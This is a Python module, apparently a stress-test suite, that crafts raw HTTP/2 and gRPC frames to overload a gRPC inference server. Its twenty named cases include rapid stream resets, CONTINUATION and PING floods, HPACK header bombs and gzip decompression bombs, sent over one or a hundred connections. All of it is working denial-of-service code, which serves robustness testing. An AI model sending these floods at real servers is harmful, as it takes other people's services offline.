"""Hostile HTTP/2 and gRPC: frames that cost the server more than the client."""

from __future__ import annotations

import gzip
import selectors
import socket
import struct
import time
from collections.abc import Callable
from functools import partial

from hostile_target import Target

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, _, PING, _, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4
MANY = 100
SECONDS = 1.0
"""Maximum duration of one call of a case."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + struct.pack(">BBL", kind, flags, stream) + payload


def header(name: str, value: str) -> bytes:
    """Return a header that adds no table entry; name and value shorter than 127 bytes."""
    return b"\0" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()


INFER = "/inference.GRPCInferenceService/ModelInfer"
STREAM_INFER = "/inference.GRPCInferenceService/ModelStreamInfer"
GREETING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)


def head(target: Target, path: str = INFER, *more: tuple[str, str]) -> bytes:
    pairs = (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("authorization", f"Bearer {target.token}"),
        *more,
    )
    return b"".join(header(*pair) for pair in pairs)


def calls(target: Target, count: int, *more: bytes, path: str = INFER) -> bytes:
    """Return requests that stay open, each followed by the frames `more`, in which stream is 0."""
    block = head(target, path)
    return b"".join(
        frame(HEADERS, END_HEADERS, stream, block)
        + b"".join(part[:5] + struct.pack(">L", stream) + part[9:] for part in more)
        for stream in range(1, 2 * count, 2)
    )


def message(body: bytes, *, packed: bool = False) -> bytes:
    return bytes((packed,)) + struct.pack(">L", len(body)) + body


def infer() -> bytes:
    """Return a ModelInferRequest for the model echo, with one number, as bytes of protobuf."""
    tensor = b"\x0a\x01x\x12\x04FP64\x1a\x01\x01"
    return message(b"\x0a\x04echo\x2a" + bytes((len(tensor),)) + tensor + b"\x3a\x08" + bytes(8))


# The attacks


def settings(target: Target) -> bytes:
    pairs = struct.pack(">HLHL", 4, 1, 4, 0) * 8
    return calls(target, 2000, frame(DATA, END_STREAM, 0, infer())) + (
        frame(SETTINGS, 0, 0, pairs) * ((256 << 10) // (9 + len(pairs)))
    )


def large_settings(target: Target) -> bytes:
    return frame(SETTINGS, 0, 0, struct.pack(">HL", 4, 1) * 10_922) * 4


def window_updates(target: Target) -> bytes:
    closed = frame(SETTINGS, 0, 0, struct.pack(">HL", 4, 0))
    return (
        closed
        + calls(target, 4000, frame(DATA, END_STREAM, 0, infer()))
        + frame(WINDOW_UPDATE, 0, 0, struct.pack(">L", 1)) * 5000
    )


def resets(target: Target) -> bytes:
    return calls(target, 50_000, frame(RST_STREAM, 0, 0, bytes(4)))


def cancelled_calls(target: Target) -> bytes:
    whole = frame(DATA, END_STREAM, 0, infer())
    return calls(target, 50_000, whole, frame(RST_STREAM, 0, 0, bytes(4)))


def own_resets(target: Target) -> bytes:
    """Make the server reset streams: its own resets cost as much as the client's."""
    return calls(target, 50_000, frame(WINDOW_UPDATE, 0, 0, bytes(4)))


def continuations(target: Target) -> bytes:
    return frame(HEADERS, 0, 1) + frame(CONTINUATION, 0, 1, b"\x82") * 100_000


def pings(target: Target) -> bytes:
    return frame(PING, 0, 0, bytes(8)) * 100_000


def priorities(target: Target) -> bytes:
    return frame(PRIORITY, 0, 1, struct.pack(">LB", 3, 1)) * 100_000


def empty_data(target: Target) -> bytes:
    return calls(target, 1) + frame(DATA, 0, 1) * 100_000


def single_bytes(target: Target) -> bytes:
    return calls(target, 1) + frame(DATA, 0, 1, b"\0") + frame(DATA, 0, 1, b"\1") * 100_000


def unknown_frames(target: Target) -> bytes:
    return frame(0x77, 0, 0) * 100_000


def indexed_headers(target: Target) -> bytes:
    """Thirty thousand fields in a block of thirty thousand bytes."""
    block = b"\x82" * 30_000
    return b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) for i in range(50))


def huffman_headers(target: Target) -> bytes:
    field = b"\x40\x01a\xff\x81\x1e" + b"\xff\xf8\x3f" * 1344  # 4032 bytes of long codes
    return b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, field * 7) for i in range(50))


def header_bomb(target: Target) -> bytes:
    """A table entry of 4000 bytes, referenced repeatedly."""
    entry = b"\x40\x01a\x7f\xa1\x1e" + b"b" * 4000
    block = head(target) + entry + b"\xbe" * 25_000
    return b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) for i in range(50))


def many_calls(target: Target) -> bytes:
    return calls(target, 20_000, frame(DATA, END_STREAM, 0, infer()))


def refused_calls(target: Target) -> bytes:
    return calls(target, 20_000, frame(DATA, END_STREAM, 0, infer()), path="/x/Nothing")


def tiny_messages(target: Target) -> bytes:
    """A stream of empty messages, three thousand to a frame."""
    return calls(target, 10, *[frame(DATA, 0, 0, message(b"") * 3000)] * 20, path=STREAM_INFER)


def bombs(target: Target) -> bytes:
    packed = message(gzip.compress(bytes(32 << 20)), packed=True)
    block = head(target, INFER, ("grpc-encoding", "gzip"))
    parts = [packed[at : at + 16_384] for at in range(0, len(packed), 16_384)]
    return b"".join(
        frame(HEADERS, END_HEADERS, stream, block)
        + b"".join(frame(DATA, END_STREAM * (p is parts[-1]), stream, p) for p in parts)
        for stream in range(1, 40, 2)
    )


def abandoned(target: Target) -> bytes:
    """As many calls as may be open, by a client that then disconnects."""
    return calls(target, 4000, frame(DATA, END_STREAM, 0, infer()))


def attack(what: Callable[[Target], bytes], connections: int, target: Target) -> None:
    """Send it on `connections` connections, and read the answers, until all is sent or refused."""
    sent = GREETING + what(target)
    with selectors.DefaultSelector() as selector:
        left = {}
        for _ in range(connections):
            client = socket.create_connection(target.grpc)
            client.setblocking(False)
            selector.register(client, selectors.EVENT_READ | selectors.EVENT_WRITE, client)
            left[client] = memoryview(sent)
        end = time.monotonic() + SECONDS
        while left and time.monotonic() < end:
            for key, events in selector.select(0.1):
                client = key.data
                try:
                    if events & selectors.EVENT_READ and not client.recv(1 << 18):
                        raise ConnectionResetError
                    if events & selectors.EVENT_WRITE:
                        left[client] = left[client][client.send(left[client][: 1 << 18]) :]
                except BlockingIOError:
                    continue
                except OSError:
                    left[client] = memoryview(b"")
                if not left[client]:
                    selector.unregister(client)
                    del left[client]
                    client.close()
        for client in left:
            client.close()


ATTACKS = {
    "256 KiB of SETTINGS": settings,
    "SETTINGS of 10,000 parameters": large_settings,
    "WINDOW_UPDATEs, 4,000 calls waiting": window_updates,
    "50,000 resets": resets,
    "50,000 calls taken back": cancelled_calls,
    "50,000 resets by the server": own_resets,
    "CONTINUATIONs": continuations,
    "PINGs": pings,
    "PRIORITYs": priorities,
    "empty DATA": empty_data,
    "DATA of single bytes": single_bytes,
    "unknown frames": unknown_frames,
    "30,000 indexed headers": indexed_headers,
    "Huffman headers": huffman_headers,
    "header bomb": header_bomb,
    "20,000 calls": many_calls,
    "20,000 calls of no method": refused_calls,
    "empty messages": tiny_messages,
    "gzip bombs": bombs,
    "4,000 calls abandoned": abandoned,
}

CASES: dict[str, Callable[[Target], None]] = {}
for name, what in ATTACKS.items():
    CASES[name] = partial(attack, what, 1)
    CASES[f"{name}, {MANY} times"] = partial(attack, what, MANY)
